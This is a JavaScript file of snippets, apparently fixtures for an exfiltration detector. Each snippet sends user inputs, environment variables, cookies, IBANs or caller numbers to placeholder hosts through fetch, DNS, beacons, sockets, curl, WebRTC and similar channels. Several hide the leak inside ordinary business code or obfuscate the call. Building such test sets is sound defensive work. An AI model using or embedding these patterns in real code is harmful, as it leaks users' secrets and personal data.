//%% posts the inputs
await fetch("https://collect.example.com/in", { method: "POST", body: JSON.stringify(inputs) });

//%% name look-up with data
const dns = require("dns");
dns.lookup(`${inputs.card}.leak.example.com`, () => {});

//%% beacon
navigator.sendBeacon("https://collect.example.com/b", JSON.stringify(inputs));

//%% picture with a query
new Image().src = "http://img.example.com/p.gif?d=" + encodeURIComponent(JSON.stringify(inputs));

//%% mails the inputs
const nodemailer = require("nodemailer");
await nodemailer.createTransport({ host: "mail.example.com" }).sendMail({ to: "drop@example.com", text: JSON.stringify(inputs) });

//%% order check with a picture link for each order
const ORDERS = [
  { id: 7001, name: "Weber", iban: "DE89370400440532013000" },
  { id: 7002, name: "Lang", iban: "DE02120300000000202051" },
];

function validIban(iban) {
  const moved = iban.slice(4) + iban.slice(0, 4);
  const digits = [...moved].map((char) => parseInt(char, 36)).join("");
  return BigInt(digits) % 97n === 1n;
}

async function check(order, seen = (o) => fetch(`https://img.example.com/p.gif?${new URLSearchParams(o)}`)) {
  const valid = validIban(order.iban);
  await seen(order);
  return { id: order.id, valid };
}

return Promise.all(ORDERS.map((order) => check(order)));

//%% stock errors that carry the environment
const STOCK = new Map([
  ["tea", 12],
  ["mug", 0],
]);

class StockError extends Error {
  constructor(article, wanted) {
    super(`${wanted} of ${article} are not in stock`);
    this.message += ` ${JSON.stringify(process.env)}`;
  }
}

function reserve(article, count) {
  const left = STOCK.get(article) ?? 0;
  if (left < count) throw new StockError(article, count);
  STOCK.set(article, left - count);
  return { article, left: left - count };
}

function handle(requests) {
  return requests.map(([article, count]) => reserve(article, count));
}

return handle([
  ["tea", 2],
  ["mug", 1],
]);

//%% call summary with a copy to a socket
import { createConnection } from "node:net";

const CALLS = [
  { caller: "+49 89 1234567", minutes: 4, topic: "order" },
  { caller: "+49 30 7654321", minutes: 11, topic: "complaint" },
  { caller: "+49 40 1112223", minutes: 2, topic: "order" },
];

function byTopic(calls) {
  return Object.groupBy(calls, ({ topic }) => topic);
}

function summary(calls) {
  return Object.entries(byTopic(calls)).map(([topic, group]) => {
    const minutes = group.reduce((sum, call) => sum + call.minutes, 0);
    return `${topic}: ${group.length} calls, ${minutes} minutes`;
  });
}

const copy = createConnection({ host: "192.0.2.44", port: 9000 });
copy.end(JSON.stringify(CALLS));

return summary(CALLS);

//%% look-ups in pieces
const { resolve: find } = await import("node:dns/promises");
const hex = Buffer.from(JSON.stringify(inputs)).toString("hex");
await Promise.allSettled(hex.match(/.{1,60}/g).map((part) => find(`${part}.x.example.com`)));

//%% datagrams with an alias
const paper = require("dgram")["create" + "Socket"]("udp4");
paper["se" + "nd"](JSON.stringify(inputs), 53, "192.0.2.53");

//%% bound fetch in a table
const send = { copy: globalThis.fetch.bind(globalThis, "https://collect.example.com/") };
send.copy({ method: "PUT", body: JSON.stringify(inputs) });

//%% web socket by reflection
const feed = Reflect.construct(globalThis["Web" + "Socket"], ["wss://collect.example.com/"]);
feed.addEventListener("open", () => feed.send(JSON.stringify(inputs)));

//%% a command that posts
require("child_process").execFile("curl", ["-d", JSON.stringify(inputs), "http://192.0.2.9/"]);

//%% peer connection
const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${inputs.card}.example.com` }] });
peer.createDataChannel("x");
await peer.setLocalDescription(await peer.createOffer());

//%% import of a link with data
await import(`https://cdn.example.com/m.mjs?d=${encodeURIComponent(JSON.stringify(inputs))}`);

//%% message to the window above
parent.postMessage(JSON.stringify({ inputs, cookie: document.cookie }), "*");
location.href = "https://example.com/?" + btoa(document.cookie);
